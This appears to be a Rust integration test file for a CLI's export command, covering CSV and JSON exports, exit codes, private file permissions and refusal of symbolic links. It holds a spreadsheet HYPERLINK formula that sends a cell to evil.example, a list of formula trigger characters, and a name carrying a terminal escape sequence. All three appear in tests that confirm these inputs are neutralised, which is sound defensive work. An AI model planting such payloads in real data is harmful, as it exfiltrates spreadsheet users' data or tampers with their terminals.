//! `zpro export` against the emulator, in both dialects: members, invitations, people and the access
//! review of one organization and of all, as CSV and JSON, read back from `-o FILE`; a member whose
//! name holds a comma, a quote and a line break survives CSV; every file says when its data was
//! fetched; bad kinds, formats and `--org` with `--all-orgs` exit 2, and a failed export leaves the
//! file as it was.

mod common;

use std::path::Path;

use chrono::DateTime;
use common::Harness;
use serde_json::{json, Value};
use zenml_pro_cli::{EXIT_FAILURE, EXIT_INVALID_INPUT};
use zenml_pro_core::csv::parse;
use zenml_pro_emulator::{Dialect, EmulatorConfig};

const MEMBER: &str = "member@acme-ml.example";
const TRICKY: &str = "Doe, \"Jay\"\nof Acme";

/// A CSV file as its header and rows (as maps of column to value), checked to be RFC 4180 and to
/// carry a time on every row.
fn read_csv(text: &str) -> (Vec<String>, Vec<std::collections::HashMap<String, String>>) {
    assert!(text.ends_with("\r\n"), "{text:?}");
    let rows = parse(text).unwrap();
    let header = rows[0].clone();
    let rows: Vec<_> = rows[1..]
        .iter()
        .map(|r| {
            assert_eq!(r.len(), header.len(), "{r:?}");
            header.iter().cloned().zip(r.iter().cloned()).collect::<std::collections::HashMap<_, _>>()
        })
        .collect();
    for r in &rows {
        DateTime::parse_from_rfc3339(&r["fetched_at"]).unwrap_or_else(|e| panic!("{e}: {r:?}"));
    }
    (header, rows)
}

fn orgs_of(rows: &[std::collections::HashMap<String, String>]) -> Vec<String> {
    let mut orgs: Vec<String> = rows.iter().map(|r| r["organization"].clone()).collect();
    orgs.sort();
    orgs.dedup();
    orgs
}

async fn export_to(h: &Harness, file: &Path, args: &[&str]) -> String {
    let path = file.to_str().unwrap();
    let r = h.run(&[args, &["-o", path]].concat()).await.ok();
    assert!(r.out.is_empty() && r.err.contains("Wrote the"), "{r:?}");
    std::fs::read_to_string(file).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_read_back_for_one_organization_and_all() {
    for dialect in Dialect::ALL {
        let h = Harness::with(EmulatorConfig { port: 0, dialect, ..Default::default() }).await;
        let emu = h.emu.as_ref().unwrap();
        let renamed = reqwest::Client::new()
            .post(emu.control_url("users/rename"))
            .header(zenml_pro_emulator::CONTROL_HEADER, emu.control_token())
            .json(&json!({"email": MEMBER, "name": TRICKY}))
            .send()
            .await
            .unwrap();
        assert!(renamed.status().is_success(), "{}", renamed.status());
        h.login_and_sync("multi_org").await;
        let out = tempfile::tempdir().unwrap();
        let file = out.path().join("export.csv");

        // Members of the active organization (acme-ml), as CSV, through a file.
        let text = export_to(&h, &file, &["export", "members", "--format", "csv"]).await;
        let (header, rows) = read_csv(&text);
        assert_eq!(header[..3], ["account", "organization", "org_id"]);
        assert_eq!(orgs_of(&rows), ["acme-ml"], "{dialect}");
        let member = rows.iter().find(|r| r["email"] == MEMBER).expect("the member");
        assert_eq!(member["name"], TRICKY, "{dialect}: the name survives");
        assert!(member["roles"].contains("Organization Member"), "{member:?}");
        assert!(rows.iter().any(|r| r["kind"] == "team"), "teams are members too");
        let names: Vec<_> = std::fs::read_dir(out.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert_eq!(names, ["export.csv"], "no temporary file left");

        // As JSON on stdout: the time at the top and on each organization.
        let j = h.run(&["export", "members", "--format", "json"]).await.ok().json();
        assert_eq!(j["kind"], "members");
        assert!(j["fetched_at"].is_string() && j["stale"].is_boolean(), "{j}");
        let org = &j["organizations"][0];
        assert_eq!((org["org"].as_str(), org["fetched_at"].is_string()), (Some("acme-ml"), true));
        let found = org["items"].as_array().unwrap().iter().find(|m| m["email"] == MEMBER).unwrap();
        assert_eq!(found["name"], TRICKY);

        // Every organization.
        let text = export_to(&h, &file, &["export", "members", "--format", "csv", "--all-orgs"]).await;
        let (_, all) = read_csv(&text);
        assert_eq!(orgs_of(&all), ["acme-ml", "orbit-labs", "tiny-startup"], "{dialect}");
        assert!(all.len() > rows.len());

        // Invitations of another organization, then of all, with their status.
        let text =
            export_to(&h, &file, &["--org", "orbit-labs", "export", "invitations", "--format", "csv"]).await;
        let (_, invs) = read_csv(&text);
        let mut emails: Vec<&str> = invs.iter().map(|r| r["email"].as_str()).collect();
        emails.sort_unstable();
        assert_eq!(emails, ["intern@orbit-labs.example", "visitor@orbit-labs.example"], "{dialect}");
        assert!(invs.iter().all(|r| !r["created"].is_empty() && !r["status"].is_empty()), "{invs:?}");
        let j = h.run(&["export", "invitations", "--format", "json", "--all-orgs"]).await.ok().json();
        assert_eq!(j["organizations"].as_array().unwrap().len(), 3, "{dialect}: {j}");
        let acme = &j["organizations"][0];
        let revoked = acme["items"].as_array().unwrap().iter().find(|i| i["status"] == "revoked");
        assert!(revoked.is_some(), "every status: {acme}");

        // People, everywhere and in one organization.
        let text = export_to(&h, &file, &["export", "people", "--format", "csv", "--all-orgs"]).await;
        let (_, people) = read_csv(&text);
        let demo: Vec<_> = people.iter().filter(|r| r["person"] == "demo@zenml-pro.example").collect();
        assert_eq!(demo.len(), 3, "{dialect}: one row per organization: {demo:?}");
        assert!(people.iter().any(|r| r["name"] == TRICKY), "{dialect}");
        let j = h.run(&["--org", "tiny-startup", "export", "people", "--format", "json"]).await.ok().json();
        assert!(j["fetched_at"].is_string(), "{j}");
        assert_eq!(j["organizations"].as_array().unwrap().len(), 1);
        let orgs: Vec<&Value> = j["people"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|p| p["memberships"].as_array().unwrap())
            .map(|m| &m["org_name"])
            .collect();
        assert!(!orgs.is_empty() && orgs.iter().all(|o| *o == "tiny-startup"), "{dialect}: {orgs:?}");

        // The access review, of all and of one.
        let j = h.run(&["export", "access-review", "--format", "json", "--all-orgs"]).await.ok().json();
        assert_eq!(j["kind"], "access-review");
        assert!(j["findings"].as_array().unwrap().len() > 5 && j["fetched_at"].is_string(), "{j}");
        let args =
            ["--org", "orbit-labs", "export", "access-review", "--format", "csv", "--stale-days", "100000"];
        let text = export_to(&h, &file, &args).await;
        let (_, found) = read_csv(&text);
        assert_eq!(orgs_of(&found), ["orbit-labs"], "{dialect}");
        assert!(found.iter().all(|r| r["section"] != "stale_invitation"), "{found:?}");
        assert!(found.iter().any(|r| r["section"] == "service_account_admin"), "{found:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_exports_exit_2_and_leave_the_file_alone() {
    let h = Harness::start().await;
    h.login_and_sync("multi_org").await;
    let out = tempfile::tempdir().unwrap();
    let file = out.path().join("kept.csv");
    std::fs::write(&file, "old content").unwrap();
    let path = file.to_str().unwrap();
    for (args, says) in [
        (&["export", "nonsense", "--format", "csv", "-o", path][..], "nonsense"),
        (&["export", "members", "--format", "xml", "-o", path], "xml"),
        (&["export", "members", "-o", path], "--format"),
        (
            &["--org", "acme-ml", "export", "members", "--format", "csv", "--all-orgs", "-o", path],
            "--all-orgs",
        ),
        (&["export", "members", "--format", "csv", "--stale-days", "3", "-o", path], "--stale-days"),
        (&["export", "access-review", "--format", "csv", "--group", "acme-ml", "-o", path], "two"),
    ] {
        let r = h.run(args).await;
        assert_eq!(r.code, EXIT_INVALID_INPUT, "{args:?}: {r:?}");
        assert!(r.err.contains(says), "{args:?}: {r:?}");
    }
    let r = h.run(&["--org", "no-such-org", "export", "members", "--format", "csv", "-o", path]).await;
    assert_ne!(r.code, 0, "{r:?}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "old content", "nothing was written");
    let missing = out.path().join("no-such-dir").join("x.csv");
    let r = h.run(&["export", "members", "--format", "csv", "-o", missing.to_str().unwrap()]).await;
    assert_eq!(r.code, EXIT_FAILURE, "{r:?}");
    assert!(r.err.contains("nothing was written"), "{r:?}");
    assert!(!missing.exists());
    let names: Vec<_> = std::fs::read_dir(out.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(names, ["kept.csv"], "no temporary file left");
}

/// A name a spreadsheet would run as a formula that sends the row away.
const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?"&C2,"Acme Member")"#;
/// The first characters a spreadsheet reads as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

async fn rename(h: &Harness, email: &str, name: &str) {
    let emu = h.emu.as_ref().unwrap();
    let renamed = reqwest::Client::new()
        .post(emu.control_url("users/rename"))
        .header(zenml_pro_emulator::CONTROL_HEADER, emu.control_token())
        .json(&json!({"email": email, "name": name}))
        .send()
        .await
        .unwrap();
    assert!(renamed.status().is_success(), "{}", renamed.status());
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(path).unwrap().permissions().mode() & 0o777
}

/// CSV is safe to open: a member named with a HYPERLINK formula comes out with a `'` in front, no
/// cell of the file begins with a trigger, and the file is the user's alone (0600, also when it
/// replaced a file readable by others); `--raw` gives the formula back verbatim; a symbolic link at
/// the target is refused and the file it points to is left as it was; CSV on a terminal holds no
/// control character.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_is_neutralised_the_file_is_private_and_a_link_is_not_followed() {
    let h = Harness::start().await;
    rename(&h, MEMBER, FORMULA).await;
    h.login_and_sync("multi_org").await;
    let out = tempfile::tempdir().unwrap();
    let file = out.path().join("members.csv");
    let path = file.to_str().unwrap();
    let export = ["--org", "acme-ml", "export", "members", "--format", "csv", "-o", path];

    let text = export_to(&h, &file, &export[..export.len() - 2]).await;
    let records = parse(&text).unwrap();
    assert!(records.len() > 3, "{text}");
    for r in &records {
        for cell in r {
            assert!(!cell.starts_with(TRIGGERS), "a cell begins with a trigger: {cell:?}");
        }
    }
    let (_, rows) = read_csv(&text);
    let member = rows.iter().find(|r| r["email"] == MEMBER).expect("the member");
    assert_eq!(member["name"], format!("'{FORMULA}"), "neutralised, the formula kept as text");
    assert!(!text.contains(&format!(",{}", FORMULA.replace('"', "\"\""))), "never bare: {text}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(mode(&file), 0o600, "a new file is the user's alone");
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    }

    // --raw: for machines, the formula verbatim; replacing the 0644 file leaves a 0600 one.
    let raw = h.run(&[&export[..], &["--raw"]].concat()).await.ok();
    assert!(raw.err.contains("Wrote the members export"), "{raw:?}");
    let text = std::fs::read_to_string(&file).unwrap();
    let (_, rows) = read_csv(&text);
    let member = rows.iter().find(|r| r["email"] == MEMBER).expect("the member");
    assert_eq!(member["name"], FORMULA, "--raw keeps the cell as it is");
    #[cfg(unix)]
    assert_eq!(mode(&file), 0o600, "a replaced file is the user's alone");
    let names: Vec<_> = std::fs::read_dir(out.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(names, ["members.csv"], "no temporary file left");

    // The access review's CSV (stdout) and the people export are neutralised the same way.
    let people = h.run(&["--org", "acme-ml", "export", "people", "--format", "csv"]).await.ok();
    let (_, rows) = read_csv(&people.out);
    assert!(rows.iter().any(|r| r["name"] == format!("'{FORMULA}")), "{}", people.out);
    let people = h.run(&["--org", "acme-ml", "export", "people", "--format", "csv", "--raw"]).await.ok();
    assert!(read_csv(&people.out).1.iter().any(|r| r["name"] == FORMULA), "{}", people.out);

    // A symbolic link at the target: refused, and what it points to is unchanged.
    #[cfg(unix)]
    {
        let precious = out.path().join("precious.txt");
        std::fs::write(&precious, "keep me").unwrap();
        let before = mode(&precious);
        let link = out.path().join("link.csv");
        std::os::unix::fs::symlink(&precious, &link).unwrap();
        let r = h
            .run(&["--org", "acme-ml", "export", "members", "--format", "csv", "-o", link.to_str().unwrap()])
            .await;
        assert_eq!(r.code, EXIT_INVALID_INPUT, "{r:?}");
        assert!(r.err.contains("symbolic link"), "{r:?}");
        assert_eq!(std::fs::read_to_string(&precious).unwrap(), "keep me");
        assert_eq!(mode(&precious), before, "not chmod-ed");
        assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink());
        let mut names: Vec<_> = std::fs::read_dir(out.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        names.sort();
        assert_eq!(names, ["link.csv", "members.csv", "precious.txt"], "no temporary file left");
    }

    // On a terminal, CSV loses its cells' control characters; the records stay one a line.
    rename(&h, MEMBER, "Evil\u{1b}]0;owned\u{7}\nName\tX").await;
    h.run(&["sync"]).await.ok();
    let piped = h.run(&["--org", "acme-ml", "export", "members", "--format", "csv"]).await.ok();
    assert!(piped.out.contains("Evil\u{1b}]0;owned\u{7}\nName\tX"), "a pipe gets the file as it is");
    let shown = h.run_on_terminal(&["--org", "acme-ml", "export", "members", "--format", "csv"]).await.ok();
    assert!(!shown.out.replace("\r\n", "").chars().any(char::is_control), "{:?}", shown.out);
    let (_, rows) = read_csv(&shown.out);
    assert!(rows.iter().any(|r| r["name"] == "Evil]0;ownedNameX"), "{}", shown.out);
    assert_eq!(rows.len(), read_csv(&piped.out).1.len(), "the same records");
    let review = h.run_on_terminal(&["access-review", "--csv"]).await.ok();
    assert!(!review.out.replace("\r\n", "").chars().any(char::is_control), "{:?}", review.out);
}
